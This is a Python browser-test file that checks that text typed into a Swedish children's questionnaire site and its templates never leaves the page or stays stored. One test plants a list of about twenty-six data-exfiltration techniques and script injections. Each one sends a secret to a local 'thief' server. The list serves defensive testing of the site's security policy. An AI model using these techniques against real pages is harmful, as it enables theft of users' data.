"""R12: two hundred texts typed in the wheel, the voices and the templates, in six languages; none leaves the page, none stays.

Tried against everything the browser sends and stores, byte by byte, against the server's database and what it says, with the
service worker and without a network. A page's own policy cannot keep a script that already runs from leading the reader to
another address; that is why no script but our own runs there, which is tried too.
"""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

from playwright.sync_api import Browser, Page

from tests.journeys import wheel_files as files
from tests.journeys.site import Site
from tests.journeys.wheel_canaries import LANGUAGES, Canaries, Recorded, recording, traces, traces_in
from tests.journeys.wheel_talk import AREAS

CHILD, SMALL, COMPARE = "/hjulet/barn/", "/hjulet/liten/", "/hjulet/jamfor/"
TEMPLATES = tuple(
    f"/hjulet/forbered/{slug}/" for slug in ("franvaroutredning", "barnkonsekvensanalys", "sip")
)
MOST = 200
# What the page's origin keeps, all of it as text: every kind of storage, cookies, caches with their bodies, OPFS, the address.
KEPT = """async () => {
  const caught = [location.href, document.cookie, JSON.stringify(history.state), window.name];
  for (const store of [localStorage, sessionStorage]) caught.push(JSON.stringify({ ...store }));
  const databases = await indexedDB.databases();
  caught.push(JSON.stringify(databases));
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) caught.push(request.url, await (await cache.match(request)).text());
  }
  let files = 0;
  const walk = async (folder) => {
    for await (const [name, one] of folder) {
      files += 1;
      caught.push(name);
      if (one.kind === "directory") await walk(one);
      else caught.push(await (await one.getFile()).text());
    }
  };
  await walk(await navigator.storage.getDirectory());
  return { text: caught.join("\\n"), things: localStorage.length + sessionStorage.length + databases.length + files };
}"""
SHOWN = """() => [document.documentElement.outerHTML, ...[...document.querySelectorAll("input, textarea, select")]
  .filter((one) => one.type !== "file").map((one) => one.value)].join("\\n")"""
OPENED = "() => [...document.querySelectorAll('[data-turn] textarea')].some((one) => one.value)"
FIELDS = "main :is(textarea:not([readonly]), input[type=text]:not(.secret))"
WORKING = "[data-ready], [data-talk].on"
ASKED = "(to) => fetch(to).then(() => 'answered', () => 'refused')"
# Every way that a script in a page has of sending something to an address. Gives whether none of the planted ones ran.
WAYS = """async ([thief, secret]) => {
  const to = `${thief}/?q=${encodeURIComponent(secret)}`, struck = "window.struck = 1";
  const made = (name, more) => {
    const one = Object.assign(document.createElement(name), more);
    document.body.append(one);
    return one;
  };
  const ways = [
    () => fetch(to, { mode: "no-cors" }),
    () => fetch(thief, { method: "POST", body: secret, mode: "no-cors", keepalive: true }),
    () => navigator.sendBeacon(thief, secret),
    () => { const ask = new XMLHttpRequest(); ask.open("POST", to); ask.send(secret); },
    () => new WebSocket(to.replace("http", "ws")),
    () => new EventSource(to),
    () => { new Image().src = to; },
    () => made("img", { src: to }),
    () => made("script", { src: to }),
    () => made("iframe", { src: to }),
    () => made("link", { rel: "stylesheet", href: to }),
    () => made("link", { rel: "prefetch", href: to }),
    () => made("link", { rel: "preload", as: "image", href: to }),
    () => made("video", { src: to }),
    () => made("object", { data: to }),
    () => made("embed", { src: to }),
    () => new Worker(to),
    () => new SharedWorker(to),
    () => import(to),
    () => { document.body.style.backgroundImage = `url(${to})`; },
    () => new FontFace("x", `url(${to})`).load(),
    () => {
      const form = made("form", { action: thief, method: "post" });
      form.append(Object.assign(document.createElement("input"), { name: "q", value: secret }));
      form.submit();
    },
    () => made("script", { textContent: struck }),
    () => { made("div", {}).innerHTML = `<img src="data:," onerror="${struck}">`; },
    () => eval(struck),
    () => new Function(struck)(),
  ];
  for (const way of ways) {
    try { await Promise.race([way(), new Promise((done) => setTimeout(done, 60))]); } catch {}
  }
  return window.struck === undefined;
}"""


class Session:
    """A person at the wheel with canaries to type; counts what the pages ask for while nothing may be asked for."""

    def __init__(self, site: Site, recorded: Recorded, folder: Path) -> None:
        self.site, self.recorded, self.folder = site, recorded, folder
        self.page: Page = recorded.context.new_page()
        self.page.on("dialog", lambda dialog: dialog.accept())
        self.canary = Canaries()
        self.faults: list[str] = []

    def open(self, path: str) -> None:
        answer = self.page.goto(self.site.at(path), wait_until="load")
        assert answer is not None
        assert answer.status == 200
        self.page.wait_for_selector(WORKING)

    @contextmanager
    def quiet(self, what: str) -> Iterator[None]:
        """Nothing is asked for and the address stays while something is done."""
        before, address = len(self.recorded.asked), self.page.url
        yield
        if more := self.recorded.asked[before:]:
            self.faults.append(f"{what}: asked for {more}")
        if self.page.url != address:
            self.faults.append(f"{what}: the address became {self.page.url}")

    def type_in(self, place: Any) -> None:
        """A canary, and then Enter: in no field does it send anything."""
        place.fill(self.canary())
        place.press("Enter")

    def type_everywhere(self, path: str, *, most: int = 1000) -> None:
        """A canary in every field of a page with fields of its own (voices, templates), or in the first ones."""
        self.open(path)
        with self.quiet(path):
            for place in self.page.locator(FIELDS).all()[:most]:
                self.type_in(place)
            for box in self.page.locator("main input[type=checkbox]").all():
                box.press("Enter")

    def play(self, prefix: str = "", *, most: int = 1000) -> None:
        """Every area of a child's wheel, or the first ones: a level, own words, Enter everywhere."""
        self.open(f"{prefix}{CHILD}")
        with self.quiet(f"{prefix}{CHILD}"):
            for turn in self.page.locator("[data-turn]").all()[:most]:
                self.page.locator(f".said a[href='#{turn.get_attribute('data-turn')}']").click()
                turn.locator(".levels label").first.click()
                turn.locator(".levels input").first.press("Enter")
                self.type_in(turn.locator("textarea"))

    def keep(self, name: str, passphrase: str = "") -> Path:
        """The family's file, which does hold what was typed."""
        return files.save(self.page, self.folder, passphrase=passphrase, name=name)

    def bare(self, when: str) -> None:
        """Nothing of a canary is seen, in a field, or kept by the page's origin."""
        if shown := traces(self.page.evaluate(SHOWN).encode()):
            self.faults.append(f"{when}: still on the page: {shown[:3]}")
        kept = self.page.evaluate(KEPT)
        if left := traces(kept["text"].encode()):
            self.faults.append(f"{when}: stored: {left[:3]}")
        if kept["things"]:
            self.faults.append(f"{when}: {kept['things']} things are stored")
        if cookies := traces(str(self.recorded.context.cookies()).encode()):
            self.faults.append(f"{when}: cookies: {cookies}")


def wheels_in_six_languages(session: Session) -> None:
    for language in LANGUAGES:
        session.play("" if language == "sv" else f"/{language}")
    session.page.locator("[data-wheel-clear]").click()
    session.bare("cleared")


def pictures_pointed_at(session: Session) -> None:
    """The youngest's wheel: a picture and a face in every area ask for nothing, and nothing of them is left."""
    session.open(SMALL)
    page = session.page
    with session.quiet(SMALL):
        for turn in page.locator("[data-turn]").all():
            page.locator(f".said a[href='#{turn.get_attribute('data-turn')}']").click()
            turn.locator(".pictures label").nth(1).click()
            turn.locator(".levels label").first.click()
        turn.locator("details.words > summary").click()
        session.type_in(turn.locator("textarea"))
    if page.locator(".said__picture").count() != len(AREAS):
        session.faults.append("a picture that was pointed at is not seen")
    page.locator("[data-wheel-clear]").click()
    session.bare("pictures cleared")
    if page.locator(".said__picture, .pick, .pictures :checked").count():
        session.faults.append("pictures cleared: one is still there")


def saved_and_opened_again(session: Session) -> None:
    """Saved plain and locked, cleared, opened, cleared again."""
    session.play()
    page, secret = session.page, session.canary()
    plain, locked = session.keep("plain.json"), session.keep("locked.json", secret)
    assert traces(plain.read_bytes())
    assert not traces(locked.read_bytes()), "a locked file tells nothing"
    for file in (plain, locked):
        page.locator("[data-wheel-clear]").click()
        session.bare(f"cleared before {file.name}")
        with session.quiet(f"opening {file.name}"):
            files.choose(page, file)
            if file == locked:
                files.unlock(page, secret)
            page.wait_for_function(OPENED)
            assert traces(page.evaluate(SHOWN).encode())
    page.locator("[data-wheel-clear]").click()
    session.bare("cleared at last")


def voices_and_templates(session: Session) -> None:
    session.type_everywhere(COMPARE)
    session.keep("voices.json")
    session.page.locator("[data-wipe]").click()
    session.bare("voices cleared")
    for path in TEMPLATES:
        session.type_everywhere(path)
        with session.quiet(f"text and paper of {path}"):
            session.page.locator("[data-text]").click()
            session.page.evaluate("() => window.dispatchEvent(new Event('beforeprint'))")
            session.page.evaluate("() => window.dispatchEvent(new Event('afterprint'))")
        with session.page.expect_download() as given:
            session.page.locator("[data-word]").click()
        assert traces(Path(given.value.path()).read_bytes()), "the document holds what was typed"
    session.page.locator("[data-wipe]").click()
    session.bare("template cleared")


def left_without_clearing(session: Session) -> None:
    """Whoever only leaves, and comes back by the browser's own arrow, finds nothing either."""
    for path in (COMPARE, TEMPLATES[0], CHILD):
        if path == CHILD:
            session.play(most=2)
        else:
            session.type_everywhere(path, most=4)
        session.open(COMPARE)
        session.page.go_back()
        session.page.wait_for_selector(WORKING)
        session.bare(f"back at {path}")


def without_a_network(session: Session) -> None:
    """The service worker has the pages; what is typed and saved there is not in its cache."""
    page = session.page
    session.open(CHILD)
    page.wait_for_function("async () => (await navigator.serviceWorker.ready).active.state === 'activated'")
    session.recorded.context.set_offline(True)
    session.play(most=2)
    assert traces(session.keep("offline.json").read_bytes())
    session.type_everywhere(COMPARE, most=4)
    session.page.locator("[data-wipe]").click()
    session.recorded.context.set_offline(False)
    session.open(COMPARE)
    session.bare("after the network came back")


def test_none_of_two_hundred_answers_leaves_the_page_or_stays(
    browser: Browser, site: Site, tmp_path: Path
) -> None:
    with recording(browser, tmp_path) as recorded:
        session = Session(site, recorded, tmp_path)
        wheels_in_six_languages(session)
        pictures_pointed_at(session)
        saved_and_opened_again(session)
        voices_and_templates(session)
        left_without_clearing(session)
        without_a_network(session)
        assert session.canary.given >= MOST
        foreign = [
            url
            for url in [*recorded.asked, *recorded.kept]
            if not url.startswith((site.address, "data:", "blob:"))
        ]
    assert not session.faults, "\n".join(session.faults)
    assert not foreign
    assert not recorded.sent()
    assert not traces_in(recorded.profile), "the closed browser's profile"
    assert not traces_in(site.folder), "the server's database, log and files"
    print(
        f"\n{session.canary.given} canaries, {len(recorded.asked)} requests, {recorded.log.stat().st_size} bytes of log"
    )


def test_only_robots_txt_may_be_asked_for_and_only_until_the_page_is_touched(
    browser: Browser, site: Site
) -> None:
    context = browser.new_context(service_workers="block")
    try:
        for path in (CHILD, SMALL, COMPARE, TEMPLATES[0]):
            for touch in (
                lambda page: page.keyboard.press("Tab"),
                lambda page: page.locator("h1").first.click(),
            ):
                page = context.new_page()
                page.goto(site.at(path))
                page.wait_for_selector(WORKING)
                assert page.evaluate(ASKED, site.at("/robots.txt")) == "answered"
                assert page.evaluate(ASKED, site.at("/hjulet/")) == "refused"
                touch(page)
                assert page.evaluate(ASKED, site.at("/robots.txt")) == "refused"
                page.evaluate("document.querySelectorAll('meta[http-equiv]').forEach((one) => one.remove())")
                assert page.evaluate(ASKED, site.at("/robots.txt")) == "refused", "a policy is not taken back"
                page.close(run_before_unload=False)
    finally:
        context.close()


def test_the_search_finds_what_does_leak_and_stay(browser: Browser, site: Site, tmp_path: Path) -> None:
    """Else the test above would pass on anything."""
    with recording(browser, tmp_path) as recorded:
        page, canary = recorded.context.new_page(), Canaries()
        page.goto(site.at("/"))
        page.evaluate("(text) => fetch('/', { method: 'POST', body: text })", canary())
        page.evaluate("(text) => fetch(`/?q=${btoa(text)}`)", canary().encode("ascii", "ignore").decode())
        page.evaluate("(text) => localStorage.setItem('x', text)", canary())
        assert traces(page.evaluate(KEPT)["text"].encode())
    signs = recorded.sent()
    assert any("0001zq" in sign for sign in signs)
    assert any("base64" in sign for sign in signs)
    assert traces_in(recorded.profile)


class Thief(BaseHTTPRequestHandler):
    """Writes down whatever anybody asks it for."""

    caught: ClassVar[list[str]] = []
    timeout = 1  # seconds

    def handle_one_request(self) -> None:
        if (
            line := self.rfile.readline()
        ):  # a connection that says nothing was opened ahead of a form that was then stopped
            self.caught.append(line.decode())


def test_a_planted_script_does_not_run_and_one_that_did_could_not_send(browser: Browser, site: Site) -> None:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Thief)
    server.daemon_threads = False  # so that closing waits for them, and no connection is left behind
    threading.Thread(target=server.serve_forever, daemon=True).start()
    context = browser.new_context(service_workers="block")
    done: list[str] = []
    context.on("requestfinished", lambda request: done.append(request.url))
    try:
        for path in (CHILD, COMPARE, TEMPLATES[0]):
            page, secret = context.new_page(), Canaries()()
            page.goto(site.at(path))
            page.wait_for_selector(WORKING)
            before = page.url
            assert page.evaluate(WAYS, [f"http://127.0.0.1:{server.server_port}", secret]), (
                f"{path}: a planted script ran"
            )
            page.wait_for_timeout(200)
            assert page.url == before
            page.close(run_before_unload=False)
    finally:
        server.shutdown()
        server.server_close()
        context.close()
    assert Thief.caught == []
    assert not [url for url in done if traces(url.encode())]
